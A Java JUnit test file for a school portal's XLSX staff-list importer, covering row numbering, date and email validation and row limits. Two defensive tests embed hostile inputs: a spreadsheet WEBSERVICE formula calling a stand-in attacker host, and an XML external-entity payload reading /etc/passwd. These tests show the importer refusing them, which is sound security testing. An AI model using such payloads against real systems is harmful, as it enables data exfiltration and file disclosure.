package vn.eschool.portal.layer2.staff;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.List;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellStyle;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import vn.eschool.portal.core.account.Role;
import vn.eschool.portal.core.rest.PortalException;
import vn.eschool.portal.layer2.sheet.SheetFormat;

/** XLSX files are built here with POI, so no binary fixture is committed. */
class XlsxStaffSheetTest {

    private static final List<String> HEADER =
            List.of("STT", "Họ và tên", "Ngày sinh", "Tổ chuyên môn", "Môn dạy", "Email", "Điện thoại", "Vai trò");

    private static StaffImportPreview preview(byte[] xlsx, StaffImportContext context) {
        return StaffImporter.preview(new ByteArrayInputStream(xlsx), SheetFormat.XLSX, context);
    }

    private static StaffImportContext strict() {
        return StaffImportContext.of(List.of(), StaffImporterTest.GROUPS, StaffImporterTest.TODAY);
    }

    /** The list as schools keep it: a title, a blank row, the header on row 3, then the staff. */
    private static byte[] staffList() throws IOException {
        try (XSSFWorkbook workbook = new XSSFWorkbook(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            Sheet sheet = workbook.createSheet("Danh sách");
            sheet.createRow(0).createCell(0).setCellValue("DANH SÁCH CÁN BỘ, GIÁO VIÊN, NHÂN VIÊN");
            Row header = sheet.createRow(2);
            for (int i = 0; i < HEADER.size(); i++) {
                header.createCell(i).setCellValue(HEADER.get(i));
            }
            CellStyle vietnameseDate = workbook.createCellStyle();
            vietnameseDate.setDataFormat(workbook.createDataFormat().getFormat("dd/mm/yyyy"));
            CellStyle englishDate = workbook.createCellStyle();
            englishDate.setDataFormat((short) 14); // built-in m/d/yy

            Row huong = sheet.createRow(3);
            huong.createCell(0).setCellValue(1);
            huong.createCell(1).setCellValue("Nguyễn Thị Thanh Hương");
            Cell born = huong.createCell(2);
            born.setCellValue(LocalDate.of(1985, 9, 5));
            born.setCellStyle(vietnameseDate);
            huong.createCell(3).setCellValue("Tổ Toán");
            huong.createCell(4).setCellValue("Toán; Tin học");
            huong.createCell(5).setCellValue("huong@example.edu.vn");
            huong.createCell(6).setCellValue(912345678); // a number cell: Excel drops the leading zero
            huong.createCell(7).setCellValue("GV");

            Row nam = sheet.createRow(4);
            nam.createCell(0).setCellValue(2);
            nam.createCell(1).setCellFormula("\"Trần \"&\"Văn Nam\"");
            Cell namBorn = nam.createCell(2);
            namBorn.setCellValue(LocalDate.of(1991, 12, 3));
            namBorn.setCellStyle(englishDate);
            // Tổ chuyên môn and Môn dạy left out: sparse rows must keep their columns.
            nam.createCell(5).setCellValue("nam@example.edu.vn");
            nam.createCell(7).setCellValue("nhân viên");

            sheet.createRow(6).createCell(1).setCellValue("   "); // blank in appearance only

            Row bad = sheet.createRow(7);
            bad.createCell(1).setCellValue("Lê Văn Hòa");
            bad.createCell(2).setCellValue("30/02/1980");
            bad.createCell(5).setCellValue("hoa(at)example");

            workbook.getCreationHelper().createFormulaEvaluator().evaluateAll();
            workbook.write(out);
            return out.toByteArray();
        }
    }

    @Test
    void aGeneratedWorkbookPreviewsWithSpreadsheetRowNumbers() throws IOException {
        StaffImportPreview preview = preview(staffList(), strict());

        assertEquals(List.of(4, 5, 8), preview.rows().stream().map(StaffPreviewRow::row).toList());
        assertEquals(new StaffMember("huongntt", "Nguyễn Thị Thanh Hương", LocalDate.of(1985, 9, 5), Role.TEACHER,
                null, "Tổ Toán", List.of("Toán", "Tin học"), "huong@example.edu.vn", "0912345678"),
                preview.rows().get(0).member());

        StaffMember nam = preview.rows().get(1).member();
        assertEquals("Trần Văn Nam", nam.fullName(), "the formula's cached value");
        assertEquals("namtv", nam.username());
        assertEquals(LocalDate.of(1991, 12, 3), nam.dateOfBirth(), "a date cell in an English display format");
        assertEquals(Role.STAFF, nam.role());
        assertEquals("nam@example.edu.vn", nam.email());
        assertTrue(preview.rows().get(1).valid());

        assertFalse(preview.canCommit());
        assertEquals(List.of(new RowError(8, StaffColumn.DATE_OF_BIRTH, "bad-date",
                        "Ngày sinh \"30/02/1980\" không đúng dạng ngày/tháng/năm (ví dụ 05/09/1985).",
                        "The date of birth \"30/02/1980\" is not a day/month/year date (e.g. 05/09/1985)."),
                new RowError(8, StaffColumn.EMAIL, "bad-email",
                        "Email \"hoa(at)example\" không hợp lệ.", "The email \"hoa(at)example\" is not valid.")),
                preview.errors());
    }

    @Test
    void formulasAreReadAsTheirCachedValueNeverEvaluated() throws IOException {
        byte[] xlsx;
        try (XSSFWorkbook workbook = new XSSFWorkbook(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            Sheet sheet = workbook.createSheet();
            sheet.createRow(0).createCell(0).setCellValue("Họ và tên");
            Cell name = sheet.createRow(1).createCell(0);
            name.setCellFormula("WEBSERVICE(\"http://attacker.example/\")");
            name.setCellValue("Giá trị đã lưu");
            workbook.write(out);
            xlsx = out.toByteArray();
        }
        StaffImportPreview preview = preview(xlsx, StaffImportContext.of(List.of(), null, StaffImporterTest.TODAY));
        assertEquals("Giá trị đã lưu", preview.rows().get(0).member().fullName());
    }

    @Test
    void tooManyRowsStopTheStreamingRead() throws IOException {
        byte[] xlsx = staffList();
        StaffImportContext context = new StaffImportContext(List.of(), null, false, 2, StaffImporterTest.TODAY);
        PortalException tooMany = assertThrows(PortalException.class, () -> preview(xlsx, context));
        assertEquals("too-many-rows", tooMany.code());
    }

    @Test
    void anExternalEntityIsRefusedNotExpanded() throws IOException {
        String doctype = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
                + "<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>";
        String sheet = doctype + "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">"
                + "<sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>Họ và tên</t></is></c></row>"
                + "<row r=\"2\"><c r=\"A2\" t=\"inlineStr\"><is><t>&xxe;</t></is></c></row></sheetData></worksheet>";
        byte[] hostile = replaceEntry(staffList(), "xl/worksheets/sheet1.xml", sheet.getBytes(StandardCharsets.UTF_8));

        PortalException refused = assertThrows(PortalException.class, () -> preview(hostile, strict()));
        assertEquals("unreadable-file", refused.code());
        assertFalse(refused.messageEn().contains("root:"));
        assertTrue(refused.messageEn().contains("DOCTYPE is disallowed"), refused.messageEn());
    }

    @Test
    void somethingElseNamedXlsxIsUnreadable() {
        byte[] csv = "Họ và tên\nAn\n".getBytes(StandardCharsets.UTF_8);
        assertEquals("unreadable-file", assertThrows(PortalException.class, () -> preview(csv, strict())).code());
    }

    private static byte[] replaceEntry(byte[] zip, String name, byte[] content) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(zip));
             ZipOutputStream rewritten = new ZipOutputStream(out)) {
            for (ZipEntry entry = in.getNextEntry(); entry != null; entry = in.getNextEntry()) {
                rewritten.putNextEntry(new ZipEntry(entry.getName()));
                rewritten.write(entry.getName().equals(name) ? content : in.readAllBytes());
                rewritten.closeEntry();
            }
        }
        return out.toByteArray();
    }
}
